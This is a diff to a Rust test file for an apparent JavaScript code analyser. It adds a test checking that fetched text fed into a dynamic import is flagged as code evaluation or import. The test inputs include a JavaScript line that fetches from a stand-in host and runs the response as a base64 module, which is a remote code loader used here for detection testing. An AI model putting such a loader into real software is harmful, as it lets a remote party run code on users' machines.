@@ -1,8 +1,8 @@
 //! Code that writes its names in signs, and hides its text in numbers or in a module.
 
 use foretaste_javascript::observe;
-use foretaste_model::Limits;
 use foretaste_model::facts::FileFacts;
+use foretaste_model::{Capability, Limits};
 
 fn facts(code: &str) -> FileFacts {
     observe("a.js", code, &Limits::default())
@@ -115,4 +115,25 @@ fn lists_that_replace_their_own_function_are_looked_up() {
     // somebody else may put another list there
     let other = facts(&program("exports.reset = () => { list = () => []; };"));
     assert!(!starts(&other), "{:?}", other.uses);
+}
+
+#[test]
+fn a_module_in_its_own_address_is_text_that_is_evaluated() {
+    let sink = |code: &str| {
+        let facts = facts(code);
+        let last = facts.flows.first().and_then(|f| f.steps.last());
+        last.map(|s| s.capability)
+    };
+    assert_eq!(
+        sink(
+            "fetch('https://c.invalid/p').then((r) => r.json()).then((j) => import('data:text/javascript;base64,' + j.text));"
+        ),
+        Some(Capability::CodeEval)
+    );
+    assert_eq!(
+        sink(
+            "fetch('https://c.invalid/p').then((r) => r.json()).then((j) => import('./locales/' + j.name));"
+        ),
+        Some(Capability::CodeImport)
+    );
 }
